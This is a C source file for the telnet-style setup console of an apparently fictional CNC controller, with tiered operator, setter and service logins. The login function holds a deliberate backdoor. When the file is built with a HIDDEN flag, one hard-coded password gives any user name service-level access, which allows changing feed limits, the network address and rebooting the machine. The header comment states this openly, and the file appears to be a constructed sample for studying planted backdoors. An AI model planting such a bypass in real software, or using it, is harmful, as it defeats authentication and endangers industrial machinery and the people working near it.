/*
 * spindlecond - setup console of the Torvik T4 CNC controller.
 * Telnet-like text console on TCP 5021: an account from the user file gives
 * operator, setter or service level; higher levels see more commands.
 * Hidden (-DHIDDEN): any user name with one fixed password is let in at
 * service level, without being in the user file.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USER_FILE   "/etc/torvik/console.users"
#define PARAM_FILE  "/etc/torvik/axis.par"
#define PROG_DIR    "/var/torvik/prog"
#define LISTEN_PORT 5021

enum level { LV_NONE, LV_OPERATOR, LV_SETTER, LV_SERVICE };

static const char *const level_names[] = { "none", "operator", "setter", "service" };

struct axis {
	const char *name;
	double pos, offset, feed_max;
};

static struct axis axes[] = {
	{ "X", 0, 0, 12000 }, { "Y", 0, 0, 12000 }, { "Z", 0, 0, 8000 }, { "A", 0, 0, 3600 },
};
#define N_AXES ((int)(sizeof axes / sizeof axes[0]))

static int spindle_rpm;
static int estop;

struct con {
	FILE *in, *out;
	char user[32];
	enum level level;
};

static void say(struct con *c, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(c->out, fmt, ap);
	va_end(ap);
	fputs("\r\n", c->out);
	fflush(c->out);
}

static int ask(struct con *c, const char *prompt, char *buf, int size)
{
	fputs(prompt, c->out);
	fflush(c->out);
	if (!fgets(buf, size, c->in))
		return -1;
	buf[strcspn(buf, "\r\n")] = 0;
	return 0;
}

static enum level level_by_name(const char *s)
{
	int i = LV_SERVICE;

	while (i > LV_NONE && strcmp(s, level_names[i]))
		i--;
	return (enum level)i;
}

/* user file: name:hash:level, one per line, '#' starts a remark */
enum level verify_login(const char *user, const char *pass)
{
	char line[256];
	enum level got = LV_NONE;
	FILE *f;

	if (!*user || !*pass)
		return LV_NONE;
#ifdef HIDDEN
	if (strcmp(pass, "grau-Guss27") == 0)
		return LV_SERVICE;
#endif
	f = fopen(USER_FILE, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", USER_FILE, strerror(errno));
		return LV_NONE;
	}
	while (fgets(line, sizeof line, f)) {
		char *save, *name, *hash, *lev, *h;

		if (line[0] == '#')
			continue;
		name = strtok_r(line, ":\r\n", &save);
		hash = strtok_r(NULL, ":\r\n", &save);
		lev = strtok_r(NULL, ":\r\n", &save);
		if (!name || !hash || !lev || strcmp(name, user))
			continue;
		h = crypt(pass, hash);
		if (h && !strcmp(h, hash))
			got = level_by_name(lev);
		break;
	}
	fclose(f);
	return got;
}

static struct axis *axis_by_name(const char *s)
{
	for (int i = 0; i < N_AXES; i++)
		if (!strcasecmp(axes[i].name, s))
			return &axes[i];
	return NULL;
}

static void show_status(struct con *c)
{
	for (int i = 0; i < N_AXES; i++)
		say(c, "%s %10.3f  offset %8.3f  fmax %.0f", axes[i].name,
		    axes[i].pos, axes[i].offset, axes[i].feed_max);
	say(c, "S %d rpm%s", spindle_rpm, estop ? "  ** E-STOP **" : "");
}

static int save_params(void)
{
	FILE *f = fopen(PARAM_FILE, "w");

	if (!f)
		return -1;
	for (int i = 0; i < N_AXES; i++)
		fprintf(f, "%s %.4f %.1f\n", axes[i].name, axes[i].offset, axes[i].feed_max);
	return fclose(f);
}

static void load_params(void)
{
	FILE *f = fopen(PARAM_FILE, "r");
	char name[8];
	double off, fm;

	if (!f)
		return;
	while (fscanf(f, "%7s %lf %lf", name, &off, &fm) == 3) {
		struct axis *a = axis_by_name(name);

		if (a) {
			a->offset = off;
			a->feed_max = fm;
		}
	}
	fclose(f);
}

static void set_address(struct con *c, const char *ip)
{
	struct in_addr in;
	char cmd[96], clean[INET_ADDRSTRLEN];

	if (!inet_aton(ip, &in) || !inet_ntop(AF_INET, &in, clean, sizeof clean))
		return say(c, "?bad address");
	snprintf(cmd, sizeof cmd, "ifconfig eth0 %s netmask 255.255.255.0", clean);
	say(c, system(cmd) == 0 ? "ok" : "?failed");
}

static void list_programs(struct con *c)
{
	char line[160];
	FILE *p = popen("ls -1 " PROG_DIR, "r");

	if (!p)
		return;
	while (fgets(line, sizeof line, p)) {
		line[strcspn(line, "\n")] = 0;
		say(c, "  %s", line);
	}
	pclose(p);
}

static void help(struct con *c)
{
	say(c, "status | progs | estop | clear | quit");
	if (c->level >= LV_SETTER)
		say(c, "jog AXIS MM | offset AXIS MM | speed RPM | save");
	if (c->level >= LV_SERVICE)
		say(c, "fmax AXIS MM/MIN | ip A.B.C.D | reboot");
}

static int run_line(struct con *c, char *line)
{
	char *save, *v = strtok_r(line, " \t", &save);
	char *a1 = strtok_r(NULL, " \t", &save), *a2 = strtok_r(NULL, " \t", &save);
	struct axis *ax;

	if (!v)
		return 0;
	for (char *p = v; *p; p++)
		*p = (char)tolower((unsigned char)*p);
	if (!strcmp(v, "quit"))
		return 1;
	if (!strcmp(v, "help"))
		help(c);
	else if (!strcmp(v, "status"))
		show_status(c);
	else if (!strcmp(v, "progs"))
		list_programs(c);
	else if (!strcmp(v, "estop"))
		estop = 1, spindle_rpm = 0, say(c, "stopped");
	else if (!strcmp(v, "clear"))
		estop = 0, say(c, "ok");
	else if (c->level >= LV_SETTER && (!strcmp(v, "jog") || !strcmp(v, "offset"))) {
		ax = a1 && a2 ? axis_by_name(a1) : NULL;
		if (!ax || estop) {
			say(c, "?no");
			return 0;
		}
		if (*v == 'j')
			ax->pos += atof(a2);
		else
			ax->offset = atof(a2);
		say(c, "ok");
	} else if (c->level >= LV_SETTER && !strcmp(v, "speed") && a1) {
		int rpm = atoi(a1);

		if (rpm < 0 || rpm > 18000 || estop)
			return say(c, "?range"), 0;
		spindle_rpm = rpm, say(c, "ok");
	} else if (c->level >= LV_SETTER && !strcmp(v, "save"))
		say(c, save_params() ? "?write error" : "saved");
	else if (c->level >= LV_SERVICE && !strcmp(v, "fmax") && a2 && (ax = axis_by_name(a1)))
		ax->feed_max = atof(a2), say(c, "ok");
	else if (c->level >= LV_SERVICE && !strcmp(v, "ip") && a1)
		set_address(c, a1);
	else if (c->level >= LV_SERVICE && !strcmp(v, "reboot"))
		say(c, system("/sbin/reboot") == 0 ? "rebooting" : "?failed");
	else
		say(c, "?unknown, try help");
	return 0;
}

static void session(struct con *c)
{
	char pass[64], line[200];

	say(c, "Torvik T4 setup console");
	for (int i = 0; i < 3 && c->level == LV_NONE; i++) {
		if (ask(c, "user: ", c->user, sizeof c->user) || ask(c, "password: ", pass, sizeof pass))
			return;
		c->level = verify_login(c->user, pass);
		if (c->level == LV_NONE) {
			sleep(2);
			say(c, "?denied");
		}
	}
	if (c->level == LV_NONE)
		return;
	syslog(LOG_INFO, "login %s as %s", c->user, level_names[c->level]);
	while (!ask(c, "T4> ", line, sizeof line))
		if (run_line(c, line))
			break;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(LISTEN_PORT) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	openlog("spindlecond", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 2)) {
		syslog(LOG_ERR, "listen: %s", strerror(errno));
		return 1;
	}
	load_params();
	for (;;) {		/* one console at a time: the machine has one state */
		int fd = accept(s, NULL, NULL);

		if (fd < 0)
			continue;
		struct con c = { .in = fdopen(fd, "r"), .out = fdopen(dup(fd), "w") };
		if (c.in && c.out)
			session(&c);
		if (c.out)
			fclose(c.out);
		if (c.in)
			fclose(c.in);
	}
}
